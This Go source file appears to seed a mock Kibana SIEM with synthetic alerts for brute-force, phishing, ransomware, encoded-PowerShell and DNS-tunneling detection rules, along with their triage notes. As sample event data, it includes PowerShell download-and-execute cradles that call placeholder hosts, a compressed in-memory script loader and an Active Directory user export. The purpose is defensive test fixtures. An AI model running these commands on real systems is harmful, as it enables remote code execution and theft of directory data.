	days := func(d int) time.Time { return now.AddDate(0, 0, -d) }
	if spaceID == "soc" {
		return alertCast{
			domain: "NORTHWIND", subnet: "10.40", bruteHost: "portal-web-01", bruteIP: "10.40.1.20", bruteOS: "linux",
			attackers: []string{"203.0.113.66", "203.0.113.71", "198.51.100.140"}, bruteUsers: []string{"m.alvarez", "t.ng", "customer-ops"},
			financeUsers: []string{"e.larsen", "n.brooks"}, financeHosts: []string{"ea-lt-01", "ea-lt-04"},
			phishDomain: "boardpack-sharepoint.com", phishPath: "/sites/board/review.aspx",
			fileServer: "bkp-01", fileServerIP: "10.40.2.12", ransomUser: "svc-backup", ransomProc: "rsync-helper.exe", ransExt: "crypt",
			shares: []string{`D:\Backups\daily`, `D:\Backups\weekly`},
			psHost: "dc-02", psIP: "10.40.0.12", psUser: "svc-sql", psParent: "wmiprvse.exe",
			psCommand: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/a.ps1')",
			dnsHost:   "fin-ws-07", dnsIP: "10.40.12.7", dnsUser: "l.martin", tunnelDomain: "u.sync-telemetry.net", resolver: "10.40.0.53",
			assignees: [5][]string{{"aokafor", "jdoe"}, {"jdoe"}, {"snovak", "mchen"}, {"mchen"}, {"rpatel"}},
			counts:    [5]int{7, 6, 8, 5, 12},
			legacy: []*signalsIndex{
				{name: ".siem-signals-soc-000001", version: 67, counts: []signalVersion{{57, 4}, {67, 8}}, newest: days(20), aliased: true},
				{name: ".siem-signals-soc-000002", version: signalsTemplateVersion, counts: []signalVersion{{signalsTemplateVersion, 19}}, newest: days(6), write: true, aliased: true},
			},
		}
	}
	return alertCast{
		domain: "ACME", subnet: "10.20", bruteHost: "vpn-gw-01", bruteIP: "198.51.100.10", bruteOS: "linux",
		attackers: []string{"203.0.113.23", "203.0.113.77"}, bruteUsers: []string{"admin", "vpn-svc", "j.morgan", "svc-backup"},
		financeUsers: []string{"a.chen", "m.rossi", "k.patel"}, financeHosts: []string{"fin-ws-011", "fin-ws-014", "fin-ws-020"},
		phishDomain: "invoices-contoso.com", phishPath: "/o365/login",
		fileServer: "fs-02", fileServerIP: "10.20.1.16", ransomUser: "svc-backup", ransomProc: "svchost32.exe", ransExt: "locked",
		shares: []string{`\\fs-02\projects`, `\\fs-02\finance`},
		psHost: "ws-0142", psIP: "10.20.6.142", psUser: "l.wong", psParent: "winword.exe",
		dnsHost: "build-03", dnsIP: "10.20.9.3", dnsUser: "svc-build", tunnelDomain: "t1.cdn-sync.net", resolver: "10.20.0.53",
		assignees: [5][]string{{"aokafor"}, {"jdoe", "mchen"}, {"snovak", "rpatel"}, {"mchen"}, {"rpatel"}},
		counts:    [5]int{9, 8, 6, 7, 10},
		legacy: []*signalsIndex{
			{name: ".siem-signals-default-000001", version: 57, counts: []signalVersion{{57, 23}}, newest: days(40), aliased: true},
			{name: ".siem-signals-default-000002", version: signalsTemplateVersion, counts: []signalVersion{{signalsTemplateVersion, 58}}, newest: days(9), write: true, aliased: true},
		},
	}
}

// ruleDetails are what a detection rule document says beyond storyRule.
var ruleDetails = []struct {
	description string
	index       []string
	tactic      [2]string // id, name
	technique   [2]string
	sub         [2]string
	fields      [][2]string // required fields: name, type
	note        string
}{
	{"Detects a burst of failed authentications against a remote access gateway followed by a successful logon from the same source, a sign of password guessing that worked.",
		[]string{"logs-system.auth-*", "logs-fortinet_fortigate.log-*"}, [2]string{"TA0006", "Credential Access"}, [2]string{"T1110", "Brute Force"}, [2]string{"T1110.001", "Password Guessing"},
		[][2]string{{"event.category", "keyword"}, {"event.outcome", "keyword"}, {"source.ip", "ip"}, {"user.name", "keyword"}},
		"## Triage\n- Check whether the source IP is known (VPN egress, office).\n- Review the successful logon that followed and the sessions it opened.\n- Reset the account's password and revoke its sessions if the logon was not the user."},
	{"Detects a user opening a URL listed as phishing by threat intelligence.",
		[]string{"logs-network_traffic.http-*", "logs-zscaler_zia.web-*"}, [2]string{"TA0001", "Initial Access"}, [2]string{"T1566", "Phishing"}, [2]string{"T1566.002", "Spearphishing Link"},
		[][2]string{{"url.domain", "keyword"}, {"threat.indicator.type", "keyword"}, {"user.name", "keyword"}},
		"## Triage\n- Find the email that carried the link and who else received it.\n- Check whether credentials were entered on the page.\n- Block the domain at the proxy."},
	{"Detects a process renaming many files to an encrypted extension in a short time, typical of ransomware.",
		[]string{"logs-endpoint.events.file-*"}, [2]string{"TA0040", "Impact"}, [2]string{"T1486", "Data Encrypted for Impact"}, [2]string{},
		[][2]string{{"file.extension", "keyword"}, {"event.action", "keyword"}, {"process.name", "keyword"}},
		"## Response\n- Isolate the host at once.\n- Identify the process and the account it runs as.\n- Check backups of the affected shares before restoring."},
	{"Detects PowerShell started with an encoded command, often used to hide malicious scripts.",
		[]string{"logs-endpoint.events.process-*", "winlogbeat-*"}, [2]string{"TA0002", "Execution"}, [2]string{"T1059", "Command and Scripting Interpreter"}, [2]string{"T1059.001", "PowerShell"},
		[][2]string{{"process.name", "keyword"}, {"process.args", "keyword"}, {"process.parent.name", "keyword"}},
		"## Triage\n- Decode the command (base64, UTF-16LE).\n- Check the parent process: an Office application suggests a malicious document."},
	{"Detects DNS queries with long, high-entropy subdomains and large responses, a sign of data tunneled over DNS.",
		[]string{"logs-network_traffic.dns-*"}, [2]string{"TA0011", "Command and Control"}, [2]string{"T1071", "Application Layer Protocol"}, [2]string{"T1071.004", "DNS"},
		[][2]string{{"dns.question.name", "keyword"}, {"network.bytes", "long"}},
		"## Triage\n- Look at the registered domain behind the queries and its age.\n- Build tools and backup agents are known false positives."},
}

// seedAlerts builds about 40 alerts the story's detection rules (seeded
// with the alerting rules) raised over the last 7 days, and the legacy
// signals indices.
func (k *Kibana) seedAlerts(sp *space, rng *rand.Rand) {
	now := k.cfg.Now().UTC()
	mapping, multi := alertsMapping()
	st := &sp.alerts
	st.index = &es.Index{Name: alertsIndexName(sp.id), Mapping: mapping, Multi: multi}
	cast := castFor(sp.id, now)
	st.legacy = cast.legacy

	rules := make([]*alertingRule, len(storyRules))
	for i := range storyRules {
		rules[i] = sp.rules.byID[ruleIDIn(sp.id, i)]
		// Five draws once dated the rule and its last run here; the
		// alerting rule holds those now. They stay drawn so that the
		// alerts and everything seeded after keep their ids and values.
		for _, n := range []int{5, 600, 10, 4, 60} {
			rng.IntN(n)
		}
		rules[i].lastMetrics = map[string]any{"total_search_duration_ms": 20 + rng.IntN(180), "total_indexing_duration_ms": rng.IntN(40), "execution_gap_duration_s": 0}
	}

	type planned struct {
		rule   int
		at     time.Time
		status string
		reason string
		tags   []string
		assign []string
		event  alertEvent
	}
	var plan []planned
	hoursAgo := func(lo, hi float64) time.Time {
		h := lo + rng.Float64()*(hi-lo)
		return now.Add(-time.Duration(h * float64(time.Hour))).Truncate(time.Millisecond)
	}
	// Brute force on the remote access gateway (the customer portal in
	// soc), three days ago: the first alerts closed as duplicates, a
	// couple acknowledged.
	for i := range cast.counts[0] {
		p := planned{rule: 0, at: hoursAgo(68, 74), status: "open"}
		switch {
		case i < 3:
			p.status, p.reason = "closed", "duplicate"
		case i < 5:
			p.status, p.assign = "acknowledged", cast.assignees[0]
		}
		p.event = bruteForceEvent(cast, i, rng)
		plan = append(plan, p)
	}
	// Finance users clicking a phishing link, about two days ago.
	for i := range cast.counts[1] {
		p := planned{rule: 1, at: hoursAgo(30, 50), status: "open"}
		if i < 2 {
			p.status, p.assign, p.tags = "acknowledged", cast.assignees[1], []string{"phishing"}
		}
		p.event = phishingEvent(cast, i, rng)
		plan = append(plan, p)
	}
	// Ransomware on the file server in the last hours: all open, the
	// first ones escalated.
	for i := range cast.counts[2] {
		p := planned{rule: 2, at: hoursAgo(5.5, 8), status: "open"}
		if i < 2 {
			p.tags, p.assign = []string{"escalated"}, cast.assignees[2]
		}
		p.event = ransomwareEvent(cast, i, rng)
		plan = append(plan, p)
	}
	// Encoded PowerShell on one workstation, yesterday.
	for i := range cast.counts[3] {
		p := planned{rule: 3, at: hoursAgo(19, 27), status: "open"}
		switch i {
		case 0:
			p.status, p.assign = "acknowledged", cast.assignees[3]
		case 1, 2:
			p.tags = []string{"needs-review"}
		}
		p.event = powershellEvent(cast, i, rng)
		plan = append(plan, p)
	}
	// DNS tunneling all week long, the first ones closed as false
	// positives.
	for i := range cast.counts[4] {
		p := planned{rule: 4, at: hoursAgo(2, 164), status: "open"}
		if i < 4 {
			p.status, p.reason, p.tags = "closed", "false_positive", []string{"false-positive"}
		}
		p.event = dnsTunnelEvent(cast, i, rng)
		plan = append(plan, p)
	}
	sort.SliceStable(plan, func(i, j int) bool { return plan[i].at.Before(plan[j].at) })

	// The rules as they were when they raised the alerts.
	views := make([]map[string]any, len(rules))
	for i, r := range rules {
		views[i] = sp.detectionView(r)
	}
	var open, closed [5][]alertRef
	newest := make([]time.Time, len(rules))
	for _, p := range plan {
		id := fmt.Sprintf("%016x%016x%016x%016x", rng.Uint64(), rng.Uint64(), rng.Uint64(), rng.Uint64())
		rule := views[p.rule]
		newest[p.rule] = p.at
		doc := alertDocument(sp.id, id, rule, p.at, p.event, rng)
		doc["kibana.alert.workflow_status"] = p.status
		doc["kibana.alert.workflow_tags"] = nonNilStrings(p.tags)
		var uids []string
		for _, a := range p.assign {
			uids = append(uids, alertUserUID(a))
		}
		doc["kibana.alert.workflow_assignee_ids"] = nonNilStrings(uids)
		if p.status != "open" {
			changed := p.at.Add(time.Duration(20+rng.IntN(200)) * time.Minute)
			if changed.After(now) {
				changed = now
			}
			doc["kibana.alert.workflow_status_updated_at"] = changed.Format(es.DateFormat)
			who := cast.assignees[p.rule]
			doc["kibana.alert.workflow_user"] = alertUserUID(who[rng.IntN(len(who))])
		}
		if p.reason != "" {
			doc["kibana.alert.workflow_reason"] = p.reason
		}
		st.index.Put(id, doc)
		ref := alertRef{ID: id, Index: st.index.Name, RuleID: rule["id"].(string), RuleName: rule["name"].(string)}
		if p.status == "closed" {
			closed[p.rule] = append([]alertRef{ref}, closed[p.rule]...)
		} else {
			open[p.rule] = append([]alertRef{ref}, open[p.rule]...)
		}
	}
	// Every alert for cases to attach, rule by rule in storyRules order,
	// the newest open and acknowledged ones first, then the closed ones.
	for i := range storyRules {
		sp.seededAlerts = append(sp.seededAlerts, open[i]...)
		sp.seededAlerts = append(sp.seededAlerts, closed[i]...)
	}
	// A rule the story disabled was disabled after its last alert.
	for i, r := range rules {
		if !r.enabled && !newest[i].IsZero() {
			off := newest[i].Add(25 * time.Minute)
			if off.After(now) {
				off = now
			}
			if off := off.Format(es.DateFormat); off > r.updatedAt {
				r.updatedAt, r.lastExecution = off, off
			}
		}
	}
}

// storyRuleParams are the params of a story rule's alerting rule: what
// the detection engine adds to the rule, in camelCase.
func storyRuleParams(i int, r storyRule) map[string]any {
	d := ruleDetails[i]
	technique := map[string]any{"id": d.technique[0], "name": d.technique[1], "reference": "https://attack.mitre.org/techniques/" + d.technique[0] + "/"}
	if d.sub[0] != "" {
		parent, child, _ := strings.Cut(d.sub[0], ".")
		technique["subtechnique"] = []any{map[string]any{"id": d.sub[0], "name": d.sub[1], "reference": "https://attack.mitre.org/techniques/" + parent + "/" + child + "/"}}
	}
	var required []any
	for _, f := range d.fields {
		required = append(required, map[string]any{"name": f[0], "type": f[1], "ecs": true})
	}
	var index []any
	for _, ix := range d.index {
		index = append(index, ix)
	}
	return detectionParams(map[string]any{
		"rule_id": r.RuleID, "description": d.description,
		"type": "query", "query": r.Query, "language": "kuery", "index": index, "filters": []any{},
		"severity": r.Severity, "risk_score": r.RiskScore, "severity_mapping": []any{}, "risk_score_mapping": []any{},
		"from": "now-6m", "to": "now", "max_signals": 100,
		"author": []any{}, "false_positives": []any{}, "references": []any{}, "license": "", "output_index": "",
		"exceptions_list": []any{}, "related_integrations": []any{}, "required_fields": required,
		"setup": "", "note": d.note, "version": 1, "immutable": false, "rule_source": map[string]any{"type": "internal"},
		"threat": []any{map[string]any{"framework": "MITRE ATT&CK", "tactic": map[string]any{"id": d.tactic[0], "name": d.tactic[1], "reference": "https://attack.mitre.org/tactics/" + d.tactic[0] + "/"}, "technique": []any{technique}}},
	})
}

// alertEvent is the source event behind an alert.
type alertEvent struct {
	ecs                map[string]any // its ECS fields, as nested objects
	category, action   string
	dataset, sourceIdx string
	detail, user, host string
}

func hostFields(name, ip, family string) map[string]any {
	os := map[string]any{"family": "windows", "name": "Windows Server 2022", "platform": "windows", "type": "windows"}
	switch family {
	case "windows-desktop":
		os = map[string]any{"family": "windows", "name": "Windows 11 Enterprise", "platform": "windows", "type": "windows"}
	case "linux":
		os = map[string]any{"family": "ubuntu", "name": "Ubuntu", "platform": "ubuntu", "type": "linux", "version": "22.04.4 LTS (Jammy Jellyfish)"}
	}
	return map[string]any{"name": name, "hostname": name, "id": stableUUID("host/" + name), "ip": []any{ip}, "os": os}
}

func bruteForceEvent(c alertCast, i int, rng *rand.Rand) alertEvent {
	src := c.attackers[i%len(c.attackers)]
	user := c.bruteUsers[i%len(c.bruteUsers)]
	outcome := "failure"
	if i == c.counts[0]-1 {
		user, outcome = c.bruteUsers[len(c.bruteUsers)-1], "success"
	}
	return alertEvent{
		category: "authentication", action: "logged-in", dataset: "system.auth", sourceIdx: ".ds-logs-system.auth-default-000001",
		detail: fmt.Sprintf("source %s", src), user: user, host: c.bruteHost,
		ecs: map[string]any{
			"host":   hostFields(c.bruteHost, c.bruteIP, c.bruteOS),
			"user":   map[string]any{"name": user, "domain": c.domain},
			"source": map[string]any{"ip": src, "port": 40000 + rng.IntN(20000), "geo": map[string]any{"country_iso_code": "NL"}},
			"event":  map[string]any{"category": []any{"authentication"}, "outcome": outcome, "action": "logged-in", "type": []any{"start"}, "dataset": "system.auth", "module": "system"},
			"agent":  map[string]any{"type": "filebeat", "name": c.bruteHost},
		},
	}
}

func phishingEvent(c alertCast, i int, rng *rand.Rand) alertEvent {
	n := i % len(c.financeUsers)
	user, host := c.financeUsers[n], c.financeHosts[n%len(c.financeHosts)]
	return alertEvent{
		category: "network", action: "http_request", dataset: "network_traffic.http", sourceIdx: ".ds-logs-network_traffic.http-default-000001",
		detail: fmt.Sprintf("destination %s", c.phishDomain), user: user, host: host,
		ecs: map[string]any{
			"host":        hostFields(host, fmt.Sprintf("%s.4.%d", c.subnet, 11+n*3), "windows-desktop"),
			"user":        map[string]any{"name": user, "domain": c.domain},
			"url":         map[string]any{"domain": c.phishDomain, "path": c.phishPath, "full": "https://" + c.phishDomain + c.phishPath + "?id=" + strconv.Itoa(10000+rng.IntN(89999))},
			"destination": map[string]any{"ip": "192.0.2.147", "port": 443},
			"threat":      map[string]any{"indicator": map[string]any{"type": "url", "provider": "abuse.ch"}},
			"event":       map[string]any{"category": []any{"network", "web"}, "action": "http_request", "outcome": "success", "dataset": "network_traffic.http", "module": "network_traffic"},
			"agent":       map[string]any{"type": "packetbeat", "name": host},
		},
	}
}

func ransomwareEvent(c alertCast, i int, rng *rand.Rand) alertEvent {
	share := c.shares[i%len(c.shares)]
	name := fmt.Sprintf("%s-%04d.xlsx.%s", []string{"Q3-forecast", "contract", "payroll", "board-minutes"}[rng.IntN(4)], rng.IntN(10000), c.ransExt)
	return alertEvent{
		category: "file", action: "rename", dataset: "endpoint.events.file", sourceIdx: ".ds-logs-endpoint.events.file-default-000001",
		detail: fmt.Sprintf("file %s, process %s", name, c.ransomProc), user: c.ransomUser, host: c.fileServer,
		ecs: map[string]any{
			"host":    hostFields(c.fileServer, c.fileServerIP, "windows"),
			"user":    map[string]any{"name": c.ransomUser, "domain": c.domain},
			"process": map[string]any{"name": c.ransomProc, "pid": 6000 + rng.IntN(2000), "executable": `C:\ProgramData\` + c.ransomProc, "parent": map[string]any{"name": "services.exe"}},
			"file":    map[string]any{"name": name, "extension": c.ransExt, "path": share + `\` + name},
			"event":   map[string]any{"category": []any{"file"}, "action": "rename", "type": []any{"change"}, "outcome": "success", "dataset": "endpoint.events.file", "module": "endpoint"},
			"agent":   map[string]any{"type": "endpoint", "name": c.fileServer},
		},
	}
}

func powershellEvent(c alertCast, i int, rng *rand.Rand) alertEvent {
	commands := []string{
		"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/stage2.ps1')",
		"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String($d));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
		"Start-Sleep -s 60; Get-ADUser -Filter * | Export-Csv $env:TEMP\\u.csv",
	}
	if c.psCommand != "" {
		commands[0] = c.psCommand
	}
	encoded := powershellEncode(commands[i%len(commands)])
	return alertEvent{
		category: "process", action: "start", dataset: "endpoint.events.process", sourceIdx: ".ds-logs-endpoint.events.process-default-000001",
		detail: fmt.Sprintf("process powershell.exe, parent process %s", c.psParent), user: c.psUser, host: c.psHost,
		ecs: map[string]any{
			"host": hostFields(c.psHost, c.psIP, map[bool]string{true: "windows", false: "windows-desktop"}[strings.HasPrefix(c.psHost, "dc-")]),
			"user": map[string]any{"name": c.psUser, "domain": c.domain},
			"process": map[string]any{
				"name": "powershell.exe", "pid": 4000 + rng.IntN(4000), "executable": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"args": []any{"powershell.exe", "-nop", "-w", "hidden", "-enc", encoded}, "command_line": "powershell.exe -nop -w hidden -enc " + encoded,
				"parent": map[string]any{"name": c.psParent, "pid": 1000 + rng.IntN(3000), "executable": knownExe[strings.ToLower(c.psParent)], "command_line": psParentCmd(c)},
			},
			"event": map[string]any{"category": []any{"process"}, "action": "start", "type": []any{"start"}, "outcome": "success", "dataset": "endpoint.events.process", "module": "endpoint"},
			"agent": map[string]any{"type": "endpoint", "name": c.psHost},
		},
	}
}

// psParentCmd is the command line of the process that started the
// encoded PowerShell, as the events show it (events_seed.go).
func psParentCmd(c alertCast) string {
	if strings.HasPrefix(c.psHost, "dc-") {
		return `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`
	}
	return `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\` + c.psUser + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7W2KD1X\Invoice_0423.docm" /o ""`
}

// powershellEncode is a command as -EncodedCommand takes it: UTF-16LE in
// base64.
func powershellEncode(cmd string) string {
	var b []byte
	for _, r := range cmd {
		b = append(b, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func dnsTunnelEvent(c alertCast, i int, rng *rand.Rand) alertEvent {
	label := fmt.Sprintf("%016x%08x", rng.Uint64(), rng.Uint32())
	name := label + "." + c.tunnelDomain
	return alertEvent{
		category: "network", action: "dns_query", dataset: "network_traffic.dns", sourceIdx: ".ds-logs-network_traffic.dns-default-000001",
		detail: fmt.Sprintf("destination %s, query %s", c.resolver, name), user: c.dnsUser, host: c.dnsHost,
		ecs: map[string]any{
			"host":        hostFields(c.dnsHost, c.dnsIP, "linux"),
			"user":        map[string]any{"name": c.dnsUser},
			"dns":         map[string]any{"question": map[string]any{"name": name, "type": "TXT", "registered_domain": c.tunnelDomain[strings.Index(c.tunnelDomain, ".")+1:]}},
			"destination": map[string]any{"ip": c.resolver, "port": 53},
			"network":     map[string]any{"protocol": "dns", "transport": "udp", "bytes": 4100 + rng.IntN(5000)},
			"event":       map[string]any{"category": []any{"network"}, "action": "dns_query", "type": []any{"protocol"}, "outcome": "success", "dataset": "network_traffic.dns", "module": "network_traffic"},
			"agent":       map[string]any{"type": "packetbeat", "name": c.dnsHost},
		},
	}
}

// alertDocument is an alert as the detection engine writes it: kibana.*
// fields as flat keys, the source event's ECS fields as nested objects.
func alertDocument(spaceID, id string, rule map[string]any, at time.Time, ev alertEvent, rng *rand.Rand) map[string]any {
	original := at.Add(-time.Duration(30+rng.IntN(240)) * time.Second)
	ts := at.Format(es.DateFormat)
	severity, _ := rule["severity"].(string)
	name, _ := rule["name"].(string)
	doc := map[string]any{
		"@timestamp": ts, "kibana.alert.start": ts, "kibana.alert.last_detected": ts, "kibana.alert.intended_timestamp": ts,
		"kibana.alert.original_time": original.Format(es.DateFormat),
		"kibana.alert.uuid":          id, "kibana.alert.status": "active", "kibana.alert.depth": 1,
		"kibana.alert.severity": severity, "kibana.alert.risk_score": rule["risk_score"],
		"kibana.alert.reason":                fmt.Sprintf("%s event with %s, by %s on %s created %s alert %s.", ev.category, ev.detail, ev.user, ev.host, severity, name),
		"kibana.alert.ancestors":             []any{map[string]any{"id": eventID(rng), "type": "event", "index": ev.sourceIdx, "depth": 0}},
		"kibana.alert.original_event.action": ev.action, "kibana.alert.original_event.category": []any{ev.category},
		"kibana.alert.original_event.dataset": ev.dataset, "kibana.alert.original_event.kind": "event",
		"kibana.alert.rule.uuid": rule["id"], "kibana.alert.rule.rule_id": rule["rule_id"], "kibana.alert.rule.name": name,
		"kibana.alert.rule.description": rule["description"], "kibana.alert.rule.severity": severity, "kibana.alert.rule.risk_score": rule["risk_score"],
		"kibana.alert.rule.tags": rule["tags"], "kibana.alert.rule.type": "query", "kibana.alert.rule.category": "Custom Query Rule",
		"kibana.alert.rule.consumer": "siem", "kibana.alert.rule.producer": "siem", "kibana.alert.rule.rule_type_id": "siem.queryRule",
		"kibana.alert.rule.enabled": true, "kibana.alert.rule.interval": rule["interval"], "kibana.alert.rule.from": rule["from"], "kibana.alert.rule.to": rule["to"],
		"kibana.alert.rule.max_signals": rule["max_signals"], "kibana.alert.rule.version": rule["version"], "kibana.alert.rule.revision": rule["revision"],
		"kibana.alert.rule.created_at": rule["created_at"], "kibana.alert.rule.created_by": "elastic",
		"kibana.alert.rule.updated_at": rule["updated_at"], "kibana.alert.rule.updated_by": "elastic",
		"kibana.alert.rule.execution.uuid": uuidFrom(rng.Uint64()),
		"kibana.alert.rule.parameters": map[string]any{
			"description": rule["description"], "risk_score": rule["risk_score"], "severity": severity, "query": rule["query"],
			"language": "kuery", "index": rule["index"], "type": "query", "rule_id": rule["rule_id"], "from": rule["from"], "to": rule["to"],
		},
		"kibana.space_ids": []any{spaceID}, "kibana.version": "8.18.0", "event.kind": "signal",
		"ecs": map[string]any{"version": "8.11.0"},
	}
	for k, v := range ev.ecs {
		doc[k] = v
	}
	return doc
}

// eventID is a source event's _id in Elasticsearch's shape (20 URL-safe
// base64 characters).
func eventID(rng *rand.Rand) string {
	b := make([]byte, 15)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return base64.RawURLEncoding.EncodeToString(b)
}

// indexUUID is an index's uuid in Elasticsearch's shape (22 URL-safe
// base64 characters), derived from its name.
func indexUUID(name string) string {
	sum := sha256.Sum256([]byte(name))
	return base64.RawURLEncoding.EncodeToString(sum[:16])
}
